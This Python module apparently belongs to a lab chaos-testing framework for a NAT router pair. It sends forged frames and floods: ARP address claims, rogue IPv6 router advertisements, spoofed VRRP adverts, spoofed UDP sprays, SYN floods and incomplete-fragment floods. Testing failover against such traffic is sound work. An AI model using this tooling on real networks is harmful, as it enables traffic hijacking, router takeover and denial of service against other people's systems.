"""Sends what a hostile or broken neighbour would send: forged frames and floods.

Run as `python -m natpair_lab.chaos.programs.attack WHAT …` inside a lab host. One JSON line says how many packets were
sent. A raw socket is all that a real attacker needs, too.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

from natpair.core import packets

_RANDOM = random.Random(7)  # noqa: S311 - the same packets in every run


def ip_packet(source: str, target: str, protocol: int, payload: bytes, *, ttl: int = 64, fragment: int = 0) -> bytes:
    """An IPv4 packet with its own identification."""
    ident = _RANDOM.randrange(65536)
    return packets.ipv4(source, target, protocol, payload, ttl=ttl, identification=ident, fragment=fragment)


def tcp_syn(source: str, target: str, sport: int, dport: int) -> bytes:
    """A SYN."""
    body = struct.pack("!HHIIBBHHH", sport, dport, _RANDOM.randrange(1 << 32), 0, 5 << 4, 2, 64240, 0, 0)
    return packets.over_ipv4(source, target, packets.TCP, body, 16)


def router_advertisement(mac: bytes) -> bytes:
    """A router advertisement to all nodes: a default route of high preference for 30 minutes (RFC 4861, RFC 4191)."""
    source = ipaddress.IPv6Address("fe80::bad").packed
    target = ipaddress.IPv6Address("ff02::1").packed
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac
    pseudo = source + target + struct.pack("!II", len(body), 58)
    body = packets.summed(body, 2, pseudo)
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target
    return bytes.fromhex("333300000001") + mac + struct.pack("!H", packets.ETH_IPV6) + head + body


def own_mac(interface: str) -> bytes:
    """The hardware address of an interface."""
    with open(f"/sys/class/net/{interface}/address") as file:  # noqa: PTH123 - pathlib costs start time under -S
        return packets.mac_bytes(file.read().strip())


def raw_ip() -> Callable[[bytes, str], None]:
    """A socket that sends whole IPv4 packets."""
    link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(packet: bytes, target: str) -> None:
        try:
            link.sendto(packet, (target, 0))
        except OSError:  # a full queue drops packets, as a wire would
            return

    return send


def paced(total: int, rate: float) -> Iterator[int]:
    """Numbers from 0 to `total`, at `rate` per second."""
    start = time.monotonic()
    for number in range(total):
        yield number
        if number % 50 == 49:
            time.sleep(max(0.0, start + number / rate - time.monotonic()))


def garp(options: argparse.Namespace) -> int:
    """Claim an address by gratuitous ARP with our own hardware address."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((options.interface, packets.ETH_ARP))
    mac = own_mac(options.interface)
    for _ in paced(options.count, options.rate):
        for operation in (1, 2):
            link.send(packets.arp(mac, operation, options.source, options.source))
    return int(options.count) * 2


def routers(options: argparse.Namespace) -> int:
    """Announce ourselves as the IPv6 router."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((options.interface, packets.ETH_IPV6))
    for _ in paced(options.count, options.rate):
        link.send(router_advertisement(own_mac(options.interface)))
    return int(options.count)


def adverts(options: argparse.Namespace) -> int:
    """Send VRRP advertisements with another node's source address."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        body = packets.vrrp(options.source, options.target, options.router_id, options.priority, options.vip, 10)
        send(ip_packet(options.source, options.target, packets.VRRP, body, ttl=255), options.target)
    return int(options.count)


def spray(options: argparse.Namespace) -> int:
    """Send UDP packets, each of a new flow, from the sources in turn. The target's port changes first, then our own."""
    send = raw_ip()
    sources = options.source.split(",")
    for number in paced(options.count, options.rate):
        source = sources[number % len(sources)]
        dport = options.port or 1024 + number % 64000
        sport = 1024 + (number if options.port else number // 64000) % 64500
        send(ip_packet(source, options.target, packets.UDP, packets.udp(sport, dport, b"spray")), options.target)
    return int(options.count)


def syns(options: argparse.Namespace) -> int:
    """SYNs from one address to random ports."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        sport, dport = _RANDOM.randrange(1024, 65536), _RANDOM.randrange(1, 65536)
        body = tcp_syn(options.source, options.target, sport, dport)
        send(ip_packet(options.source, options.target, packets.TCP, body), options.target)
    return int(options.count)


def fragments(options: argparse.Namespace) -> int:
    """Send first fragments and never the rest of their datagrams."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        body = packets.udp(_RANDOM.randrange(1024, 65536), 9, b"x" * 64)
        send(ip_packet(options.source, options.target, packets.UDP, body, fragment=0x2000), options.target)
    return int(options.count)


def garbage(options: argparse.Namespace) -> int:
    """Send UDP datagrams of random bytes to one port, with another host's source address."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        noise = _RANDOM.randbytes(_RANDOM.randrange(1, 600))
        send(
            ip_packet(options.source, options.target, packets.UDP, packets.udp(options.port, options.port, noise)),
            options.target,
        )
    return int(options.count)


ATTACKS = {
    "garp": garp,
    "adverts": adverts,
    "routers": routers,
    "spray": spray,
    "syns": syns,
    "fragments": fragments,
    "garbage": garbage,
}


def main() -> None:
    """Run one attack to its end."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", choices=tuple(ATTACKS))
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--source", required=True)
    parser.add_argument("--target", default="255.255.255.255")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--vip", default="0.0.0.0")  # noqa: S104 - a field of a packet, not a listener
    parser.add_argument("--router-id", type=int, default=51)
    parser.add_argument("--priority", type=int, default=100)
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--rate", type=float, default=1000.0)
    options = parser.parse_args()
    sys.stdout.write(json.dumps({"sent": ATTACKS[options.what](options)}) + "\n")


if __name__ == "__main__":
    main()
